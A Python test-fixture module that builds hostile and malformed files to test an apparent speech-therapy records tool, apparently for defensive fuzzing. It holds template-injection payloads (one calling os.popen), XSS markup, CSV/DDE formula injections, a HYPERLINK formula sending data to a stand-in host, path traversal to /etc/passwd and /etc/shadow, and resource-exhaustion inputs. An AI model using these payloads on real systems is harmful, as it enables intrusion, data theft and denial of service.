"""Texts made to do harm: tables without end, values beyond all, templates, markup, and files that we wrote."""

import json

LOG = b"Date,Session,Adult,Minutes,Notes\n08/09/2025,Speech,Ms Roe,30,done\n"
PLAN = "SECTION F\nSpeech and language therapy for 30 minutes each week from a therapist.\n"
DECISION = {"provision": "f1", "provision_id": "F1", "action": "accept", "edits": {}, "by": "N",
            "at": "2026-01-12T19:30:00Z"}
TEMPLATES = ("{{ 7 * 7 }}", "{% for x in range(10**9) %}x{% endfor %}",
             "{{ ''.__class__.__mro__[1].__subclasses__() }}",
             "{{ cycler.__init__.__globals__.os.popen('touch ran').read() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>")
MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</title><b>x</b>",
          "<a href=\"javascript:alert(1)\">x</a>", "&lt;script&gt;", "]]><w:p/>", "<!--")
COMMANDS = ("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://192.0.2.1/"&A1,"x")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1",
            "=1+1")


def million_columns() -> bytes:
    return LOG + b"," * 1_000_000 + b"x\n"


def endless_line() -> bytes:
    return b"Date,Session,Minutes\n08/09/2025," + b"x" * 24_000_000


def endless_words() -> bytes:
    return b"Date,Session,Minutes\n08/09/2025," + b"x " * 60_000 + b",30\n"


def nul_bytes() -> bytes:
    return LOG.replace(b"Speech", b"Spe\0ech")


def open_quote() -> bytes:
    return LOG + b'15/09/2025,"Speech' + b",30\n" * 200_000


def many_rows() -> bytes:
    return LOG + b"15/09/2025,Speech,Ms Roe,30,done\n" * 150_000


def formulas_in_a_log() -> bytes:
    rows = [f'15/09/2025,"{words.replace(chr(34), chr(34) * 2)}",Ms Roe,30,"{words.replace(chr(34), chr(34) * 2)}"'
            for words in (*COMMANDS, *MARKUP, *TEMPLATES)]
    return LOG + "\n".join(rows).encode()


def letters_that_turn_round() -> bytes:
    return LOG + "15/09/2025,\u202eyparehT hceepS\u202c\u2066,Ms\u200b Roe,3\u06600,\x1b[2J\x07done\n".encode()


def beyond_all_numbers() -> bytes:
    return LOG + b"".join(b"15/09/2025,Speech,Ms Roe,%b,done\n" % value for value in (
        b"1" + b"0" * 400, b"-30", b"1e400", b"nan", b"inf", b"99999999", b"0x1e", b"1/0", b"30" * 2000))


def beyond_all_dates() -> bytes:
    return LOG + b"".join(b"%b,Speech,Ms Roe,30,done\n" % day for day in (
        b"9999999-01-01", b"31/02/2025", b"00/00/0000", b"01/01/0001", b"31/12/9999", b"99999999999999999999", b"-1",
        b"1e308", b"2025-W99-9", b"29/02/2023"))


def a_page_of_the_web() -> bytes:
    return (b"<html><meta http-equiv=refresh content='0;url=http://192.0.2.1'><script src='http://192.0.2.1'></script>"
            b"<table><tr><th>Date<th>Session<th>Minutes<tr><td>08/09/2025<td>Speech<img src='http://192.0.2.1'><td>30</table>")


def web_table_without_end() -> bytes:
    return b"<table>" + b"<tr><td>08/09/2025</td>" + b"<td colspan=999999999>" * 1_000_000


def tags_in_tags() -> bytes:
    return b"<html><table>" * 50_000 + b"<tr><td>x"


def two_bytes_a_letter() -> bytes:
    return LOG.decode().encode("utf-16-le")


def a_picture() -> bytes:
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff\xff\xff\xff\xff\xff\xff\x08\x02\0\0\0"


def a_program() -> bytes:
    return b"\x7fELF" + b"\0" * 600


def nothing() -> bytes:
    return b""


def plan_text() -> bytes:
    return PLAN.encode()


def plan_of_templates() -> bytes:
    said = "\n".join(f"Speech therapy {words} for 30 minutes each week." for words in (*TEMPLATES, *MARKUP, *COMMANDS))
    return (PLAN + said).encode()


def plan_of_huge_numbers() -> bytes:
    amounts = ("1" + "0" * 400, "9" * 5000, "1e400", "-30", "0", "½" * 300, "10^400", "9,999,999,999")
    return (PLAN + "\n".join(f"Speech therapy for {amount} minutes each week." for amount in amounts)).encode()


def plan_of_absurd_dates() -> bytes:
    return ("Date of birth: 31/02/9999999\nDate of issue: 00/00/0000\nName: " + "x" * 50_000 + "\n" + PLAN).encode()


def plan_of_one_word() -> bytes:
    return PLAN.encode() + b"therapy" * 200_000


def plan_of_brackets() -> bytes:
    return PLAN.encode() + b"(" * 200_000 + b"30 minutes each week" + b")" * 200_000


def plan_of_bars() -> bytes:
    return PLAN.encode() + (b"|" * 100_000 + b"\n") * 20


def plan_of_lines() -> bytes:
    return PLAN.encode() + b"Section F\n" * 20_000


def plan_of_pages() -> bytes:
    return PLAN.encode() + b"\f" * 2_000_000


def too_long_a_text() -> bytes:
    return PLAN.encode() + b"Speech.\n" * 1_000_000


def lessons_without_end() -> bytes:
    event = (b"BEGIN:VEVENT\nSUMMARY:x%d\nDTSTART:00010101T090000\nDTEND:00010101T093000\n"
             b"RRULE:FREQ=DAILY;UNTIL=99991231\nEND:VEVENT\n")
    return b"BEGIN:VCALENDAR\n" + b"".join(event % number for number in range(5000)) + b"END:VCALENDAR"


def lessons_never_closed() -> bytes:
    return b"BEGIN:VCALENDAR\n" + b"BEGIN:VEVENT\n" * 500_000


def lesson_of_nonsense() -> bytes:
    return (b"BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:x\nDTSTART:20250908T090000\nDURATION:P99999999999999W\n"
            b"RRULE:FREQ=WEEKLY;INTERVAL=0;COUNT=-1\nEND:VEVENT\nEND:VCALENDAR")


def terms_in_brackets() -> bytes:
    return b"terms = " + b"[" * 100_000


def terms_of_wrong_kinds() -> bytes:
    return b'terms = "x"\nclosures = 7\n[cycle]\nweeks = 9\nstart = {}'


def terms_of_a_thousand_years() -> bytes:
    return b"Event,Start,End\nAutumn term,01/09/0001,31/12/9999\nSpring term,01/01/2026,01/01/2025\n"


def number_of_a_million_digits() -> bytes:
    return b"as_of = " + b"9" * 1_000_000


def settings_in_brackets() -> bytes:
    return b"files = " + b"[" * 100_000 + b"{" * 100_000


def settings_of_wrong_kinds() -> bytes:
    return b'as_of = 7\nfiles = "x"\nsender = [1]\nevents = {}\nwritten = 3\nsituation = "x"\n'


def settings_that_point_out() -> bytes:
    return b'[files]\nplan = "../../../etc/passwd"\nlogs = ["/etc/shadow", "C:\\\\x"]\n'


def settings_of_templates() -> bytes:
    words = json.dumps(" ".join((*TEMPLATES[:4], *MARKUP, *COMMANDS[:2])))
    return f"[sender]\nname = {words}\naddress = [{words}]\n[school]\nname = {words}\n".encode()


def decision_without_end() -> bytes:
    return json.dumps({**DECISION, "why": "x" * 3_000_000}).encode() + b"\n"


def decisions_in_brackets() -> bytes:
    return b'{"edits":' * 100_000 + b"}" * 100_000 + b"\n"


def decisions_without_end() -> bytes:
    return (json.dumps(DECISION).encode() + b"\n") * 200_000


def decision_of_wrong_kinds() -> bytes:
    return b'{"provision":[],"provision_id":9,"action":"run","at":"9999999-01-01T00:00:00Z"}\n'


def offline_in_brackets() -> bytes:
    return b"[" * 1_000_000 + b"]" * 1_000_000


def offline_of_absurd_days() -> bytes:
    return json.dumps({"schema": "sectionf/offline-decisions/1", "reading_sha256": "<script>", "decisions": [
        {"about": "x", "action": "words", "words": "<script>" * 10_000, "at": "9999999-01-01T00:00:00Z"}]}).encode()


def caseload_that_points_out() -> bytes:
    return b"case,plan\n../../x,/etc/passwd\n"


def caseload_of_one_line() -> bytes:
    return b"case,plan\n" + b"x" * 21_000_000


def caseload_of_nuls() -> bytes:
    return b"case,plan\nNell\0,plan.pdf\n"
